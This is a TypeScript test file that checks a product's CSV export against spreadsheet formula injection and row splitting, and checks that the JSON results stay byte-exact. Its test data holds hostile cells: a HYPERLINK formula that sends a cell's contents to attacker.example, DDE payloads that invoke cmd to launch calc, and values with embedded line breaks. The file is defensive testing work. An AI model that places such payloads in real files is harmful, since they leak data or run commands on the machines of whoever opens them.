/**
 * Issue 7, defect 2: no submitted string can become a formula or a row of its own in a CSV the
 * product writes; the JSON form stays byte-exact.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvRows, safeCell } from '../../src/services/csv-export.js';
import { createJobsHarness, type JobsHarness, type ResultsJson } from '../kit/jobs-kit.js';

const HOSTILE = [
  '=HYPERLINK("https://attacker.example/?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3@valid.example.com',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\tdata@valid.example.com',
  '\rcr-lead@valid.example.com',
  'lone\rcr@valid.example.com',
  'lone\nlf@valid.example.com,"injected",row',
  'plain@valid.example.com',
];

describe('CSV cells', () => {
  it.each(['=1+1', '+1', '-1', '@x', '\tx', '\rx'])(
    'neutralises a cell starting like a formula: %j',
    (cell) => {
      expect(safeCell(cell)).toBe(`'${cell}`);
    },
  );

  it('leaves ordinary cells and numbers as they are', () => {
    expect(safeCell('anna@example.com')).toBe('anna@example.com');
    expect(safeCell(-5)).toBe(-5);
  });

  it('quotes any cell holding a lone CR or LF, so that it stays one row', () => {
    const text = csvRows([
      ['a\rb', 'x'],
      ['c\nd', 'y'],
    ]);
    expect(text).toBe('"a\rb",x\r\n"c\nd",y\r\n');
  });
});

describe('results download', () => {
  let h: JobsHarness;
  beforeEach(async () => {
    h = await createJobsHarness({ account: { plan: 'starter' } });
  });
  afterEach(async () => {
    await h.close();
  });

  it('writes one neutralised row per submitted string and keeps the JSON byte-exact', async () => {
    const submitted = await h.submit(h.testKey, { emails: HOSTILE, notify_email: false });
    expect(submitted.statusCode).toBe(202);
    const jobId = submitted.json<{ job_id: string }>().job_id;
    await h.drain();

    const csv = await h.results(h.testKey, jobId, 'csv');
    expect(csv.statusCode).toBe(200);
    const rows: string[][] = parseCsv(csv.body, { relax_column_count: false });
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const emails = rows.slice(1).map((r) => r[0]!);
    for (const cell of emails) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(emails[0]).toBe(`'${HOSTILE[0]}`);
    expect(emails[7]).toBe(HOSTILE[7]);
    expect(emails[8]).toBe('plain@valid.example.com');

    const json = await h.results(h.testKey, jobId, 'json');
    expect(json.json<ResultsJson>().results.map((r) => r.email)).toEqual(HOSTILE);
  });
});
